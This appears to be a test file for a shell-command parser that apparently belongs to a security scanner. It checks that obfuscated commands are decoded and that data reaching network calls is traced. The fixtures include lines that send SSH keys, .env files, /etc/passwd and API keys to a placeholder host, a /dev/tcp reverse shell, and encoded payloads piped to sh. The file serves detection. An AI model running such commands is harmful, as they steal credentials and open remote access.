import { describe, expect, it } from "vitest";
import { openParsers } from "../syntax/open-parsers.ts";
import { viewShell } from "./view-shell.ts";

const parsers = await openParsers();
const read = (text: string) => viewShell(text, { path: "a.sh", line: 1 }, parsers);
const words = (text: string) => read(text).commands.map((command) => command.words.join(" "));
const carried = (text: string, program: string) =>
  read(text)
    .commands.findLast((command) => command.program === program)
    ?.carries.map(({ kind, what }) => `${kind} ${what}`);

describe("viewShell", () => {
  it.each([
    ['c""ur\\l -s https://a.example', "curl -s https://a.example"],
    ["A=cu; B=rl; $A${B} x", "curl x"],
    ["X=abcurl; ${X:2:4} y", "curl y"],
    ["curl${IFS}https://a.example", "curl https://a.example"],
    ["$'\\x63url' z", "curl z"],
    ["U=${NONE:-https://a.example}; curl $U", "curl https://a.example"],
    ["sudo -u root env A=1 nohup curl q", "curl q"],
    ["W=lruc; $(echo $W | rev) k", "curl k"],
    ["npm install <your-package>", "npm install _your-package_"],
    ["$ git status", "git status"],
  ])("reads %s as a shell would run it", (text, expected) => {
    expect(words(text)).toContain(expected);
  });

  it.each([
    "eval 'curl https://a.example'",
    "bash -c 'curl https://a.example'",
    "sh <<< 'curl https://a.example'",
    "cat <<EOF | sh\ncurl https://a.example\nEOF",
    "echo Y3VybCBodHRwczovL2EuZXhhbXBsZQ== | base64 -d | sh",
    "printf '\\x63url https://a.example' | bash",
    "echo 'phey uggcf://n.rknzcyr' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
    "ls | xargs -I{} curl https://a.example",
    "find . -exec curl https://a.example \\;",
  ])("finds the command inside %s", (text) => {
    expect(words(text)).toContain("curl https://a.example");
  });

  it("links the commands of a pipe and of substitutions, nearest first", () => {
    const [cat, base64, curl] = read("cat ~/.ssh/id_rsa | base64 | curl -d @- https://a.example").commands;
    expect(curl?.inputs.map(({ program }) => program)).toEqual(["base64", "cat"]);
    expect(cat?.outputs.map(({ program }) => program)).toEqual(["base64", "curl"]);
    expect(base64?.inputs).toHaveLength(1);
    expect(read('bash -c "$(curl https://a.example)"').commands.at(-1)?.inputs[0]?.program).toBe("curl");
  });

  it("follows what is read through variables, pipes and files that are sent", () => {
    expect(carried('X=$(cat .env); curl -d "$X" https://a.example', "curl")).toContain("file .env");
    expect(carried("env | curl -d @- https://a.example", "curl")).toContain("environment *");
    expect(carried("curl -F f=@/etc/passwd https://a.example", "curl")).toContain("file /etc/passwd");
    expect(carried('curl -H "A: $API_KEY" https://a.example', "curl")).toContain("environment API_KEY");
  });

  it("gives code of other languages to their readers, with its line", () => {
    expect(read("python3 - <<'EOF'\nimport os\nprint(1)\nEOF\n").nested).toEqual([
      { language: "python", text: "import os\nprint(1)", line: 2 },
    ]);
  });

  it("keeps the other lines when the grammar does not know one", () => {
    const match = words("curl https://a.example\nif ( then |\nwget https://b.example\n");
    expect(match).toContain("curl https://a.example");
    expect(match).toContain("wget https://b.example");
  });

  it("tells lines, redirections and what goes on in the background", () => {
    const [first, second] = read("ls\nsh -i >& /dev/tcp/192.0.2.1/4444 0>&1 &").commands;
    expect([first?.line, second?.line]).toEqual([1, 2]);
    expect(second?.redirects[0]).toEqual({ operator: ">&", target: "/dev/tcp/192.0.2.1/4444" });
    expect(second?.inBackground).toBe(true);
  });

  it("keeps the commands around a payload of one very long word", () => {
    const matches = read(`echo ${"QUJD".repeat(4_000)} | base64 -d | sh`).commands.map(
      ({ program }) => program,
    );
    expect(matches.slice(0, 3)).toEqual(["echo", "base64", "sh"]);
  });

  it("reads every line of a text that is full of errors", () => {
    expect(words(`${"if then ( ; }\n".repeat(900)}curl https://a.example\n`)).toContain(
      "curl https://a.example",
    );
  });
});
